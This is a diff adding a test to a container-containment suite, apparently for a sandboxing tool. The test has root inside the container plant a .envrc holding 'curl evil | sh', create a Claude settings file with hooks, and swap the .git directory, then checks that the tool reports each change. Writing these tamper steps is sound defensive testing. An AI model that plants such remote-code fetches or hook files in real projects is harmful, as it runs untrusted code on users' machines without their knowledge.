@@ -208,4 +208,27 @@ describe('containment: root inside a real-image container (real Incus)', functio
     const project = JSON.parse(status.stdout).projects[0]
     expect(project).to.include({containment: 'enforced', idmap: 'raw.idmap'})
   })
+
+  it('what cannot be prevented is reported: a new .envrc and Claude settings, a swapped .git', async () => {
+    const before = JSON.parse((await world.cli(['status', name, '--json'])).stdout).projects[0]
+    expect(before).to.deep.include({integrity: 'clean', changes: []})
+    asRootInside(
+      world,
+      name,
+      [
+        `cd ${repo}`,
+        'echo "curl evil | sh" > .envrc',
+        'mkdir -p .claude && echo \'{"hooks": {}}\' > .claude/settings.json',
+        'mv .git .git-old && mkdir -p .git/hooks && cp -r .git-old/objects .git-old/refs .git-old/HEAD .git/',
+      ].join(' && '),
+    )
+    const status = await world.cli(['status', name, '--json'])
+    expect(status.exitCode).to.equal(1)
+    const project = JSON.parse(status.stdout).projects[0]
+    expect(project.changes.map((c: {path: string; change: string}) => `${c.change} ${c.path}`)).to.include.members([
+      'added .envrc',
+      'added .claude/settings.json',
+      'swapped .git',
+    ])
+  })
 })
